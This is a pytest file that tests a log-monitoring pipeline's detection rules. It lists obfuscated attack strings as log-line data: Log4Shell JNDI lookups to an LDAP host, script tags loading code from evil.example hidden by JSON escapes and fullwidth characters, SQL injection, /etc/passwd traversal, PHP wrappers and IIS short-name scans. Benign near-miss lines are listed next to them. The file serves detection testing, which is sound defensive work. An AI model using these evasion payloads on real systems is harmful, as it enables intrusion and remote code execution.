"""The evasions of the third audit that raised nothing (each a whole log line through the
pipeline), and the ordinary lines of the same shapes that must stay quiet."""

from __future__ import annotations

import pytest

from lwsyslog.config import load_config
from lwsyslog.events import Origin
from lwsyslog.pipeline import Pipeline
from lwsyslog.severity import Severity

_HEAD = "203.0.113.7 - - [10/Oct/2024:13:55:36 +0000] "


def _get(target: str, status: int = 200) -> str:
    return f'{_HEAD}"GET {target} HTTP/1.1" {status} 512 "-" "Mozilla/5.0"'


def _ua(user_agent: str) -> str:
    return f'{_HEAD}"GET / HTTP/1.1" 200 512 "-" "{user_agent}"'


def _error(message: str) -> str:
    return (
        "[Thu Oct 10 13:55:36.123456 2024] [cgi:error] [pid 1234:tid 5678] "
        f"[client 203.0.113.7:51234] {message}"
    )


EVASIONS = [
    # 1. A Log4j default-value lookup whose name holds five colons or more: Log4j splits at
    # the first ":-", whatever comes before.
    (_ua("${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"), "log4shell-jndi"),
    (_ua("${j${::::::-n}di:ldap://198.51.100.9/a}"), "log4shell-jndi"),
    (_ua("${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"), "log4shell-lookup"),
    (_ua("${jn${x:-d}i:ldap://198.51.100.9/a}"), "log4shell-lookup"),
    # 2. JSON \uXXXX (and JavaScript \xXX) escapes in a JSON value, which the application's
    # JSON decoder undoes.
    (
        _get(
            "/api?filter=%7B%22n%22%3A%22%5Cu003cscript%20src%3D//evil.example/x.js%5Cu003e%22%7D"
        ),
        "xss-script-tag",
    ),
    (
        _get("/api?f=%7B%22u%22%3A%22admin%5Cu0027%20or%20%5Cu00271%5Cu0027%3D%5Cu00271%22%7D"),
        "sqli-quote-breakout",
    ),
    (
        _get(
            "/api?f=%7B%22p%22%3A%22%5Cu002e%5Cu002e%5Cu002f%5Cu002e%5Cu002e%5Cu002fetc"
            "%5Cu002fpasswd%22%7D"
        ),
        "path-traversal-dotdot",
    ),
    (_get("/page?cb=%5Cx3cscript%20src%3D//evil.example/x.js%5Cx3e"), "xss-script-tag"),
    # 3. Fullwidth forms sent as UTF-8, which NFKC (Python, Java, .NET) folds to ASCII.
    (_get("/search?q=%EF%BC%9Cscript%20src=//evil.example/x.js%EF%BC%9E"), "xss-script-tag"),
    (
        _get(
            "/download?f=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fpasswd"
        ),
        "path-traversal-dotdot",
    ),
    (
        _get("/item.asp?id=1%EF%BC%87%20or%20%EF%BC%871%EF%BC%87=%EF%BC%871"),
        "sqli-quote-breakout",
    ),
    # 4. A PHP stream wrapper as a JSON value.
    (
        _get("/api?q=%7B%22file%22%3A%22php%3A%2F%2Ffilter%2Fresource%3Dindex%22%7D"),
        "file-inclusion-wrapper",
    ),
    (_get("/api?q=[%22a%22,%20%22phar://uploads/x.jpg%22]"), "file-inclusion-wrapper"),
    # 5. IIS 8.3 short-name scanning, and a command's output on a CGI's stderr.
    (_get("/*~1*/a.aspx", 404), "scanner-iis-short-name"),
    (_get("/%2A~1%2A/.aspx", 404), "scanner-iis-short-name"),
    (_get("/abcdef~1*/.aspx", 400), "scanner-iis-short-name"),
    (
        _error(
            "AH01215: uid=33(www-data) gid=33(www-data) groups=33(www-data): "
            "/usr/lib/cgi-bin/status.cgi"
        ),
        "command-output-in-error-log",
    ),
]

# Japanese and Chinese searches with fullwidth punctuation, JSON with ordinary escapes, and
# other near misses of the shapes above.
ORDINARY = [
    # Japanese: the weather in Tokyo, fullwidth question mark and parentheses.
    _get(
        "/search?q=%E6%9D%B1%E4%BA%AC%E3%81%AE%E5%A4%A9%E6%B0%97%E3%81%AF%EF%BC%9F"
        "%EF%BC%88%E6%98%8E%E6%97%A5%EF%BC%89"
    ),
    # Japanese: new product, sale and campaign, 50% OFF; fullwidth ! : & ( ) % letters.
    _get(
        "/search?q=%E6%96%B0%E5%95%86%E5%93%81%EF%BC%81%EF%BC%9A%E3%82%BB%E3%83%BC%E3%83%AB"
        "%EF%BC%86%E3%82%AD%E3%83%A3%E3%83%B3%E3%83%9A%E3%83%BC%E3%83%B3%EF%BC%88%EF%BC%95"
        "%EF%BC%90%EF%BC%85%EF%BC%AF%EF%BC%A6%EF%BC%A6%EF%BC%89"
    ),
    # Japanese news title in fullwidth angle brackets; fullwidth letters, digits, ; = /.
    _get(
        "/news?title=%EF%BC%9C%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B%EF%BC%9E%E3%80%8C%EF%BD%89"
        "%EF%BC%B0%EF%BD%88%EF%BD%8F%EF%BD%8E%EF%BD%85%EF%BC%91%EF%BC%95%E3%80%8D%EF%BC%9B"
        "%E4%BE%A1%E6%A0%BC%EF%BC%9D%EF%BC%91%EF%BC%92%E4%B8%87%E5%86%86%EF%BC%8F%E7%A8%8E"
        "%E8%BE%BC"
    ),
    # Chinese: what to do? (urgent)! price: 100 yuan; fullwidth punctuation and digits.
    _get(
        "/s?wd=%E6%80%8E%E4%B9%88%E5%8A%9E%EF%BC%9F%EF%BC%88%E6%80%A5%EF%BC%89%EF%BC%81%20"
        "%E4%BB%B7%E6%A0%BC%EF%BC%9A%EF%BC%91%EF%BC%90%EF%BC%90%E5%85%83"
    ),
    # JSON with escaped non-ASCII text and an escaped slash.
    _get("/api?q=%7B%22name%22%3A%22Jos%5Cu00e9%22%2C%22url%22%3A%22%5C/home%22%7D"),
    _get("/api?q=%7B%22doc%22%3A%22notes%20on%20php%20wrappers%22%7D"),
    _get("/search?q=stream%20wrappers:%20php://filter,%20php://input"),
    _ua("Mozilla/5.0 ${HOME:-/root} (X11; Linux x86_64)"),
    _get("/repo/commits/HEAD~1/src/main.c"),
    _get("/~user1/index.html"),
    _error("AH01215: status=ok uid=33 ready: /usr/lib/cgi-bin/status.cgi"),
]


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(load_config([]))


@pytest.mark.parametrize(("line", "rule_id"), EVASIONS, ids=[e[0][46:110] for e in EVASIONS])
def test_an_evasion_of_the_third_audit_is_found(
    pipeline: Pipeline, line: str, rule_id: str
) -> None:
    result = pipeline.process(line, Origin("red-team", 1))
    assert rule_id in {finding.rule_id for finding in result.findings}


@pytest.mark.parametrize("line", ORDINARY, ids=[line[46:110] for line in ORDINARY])
def test_an_ordinary_line_of_those_shapes_raises_nothing(pipeline: Pipeline, line: str) -> None:
    result = pipeline.process(line, Origin("false-flag", 1))
    serious = [f.rule_id for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank]
    assert serious == []
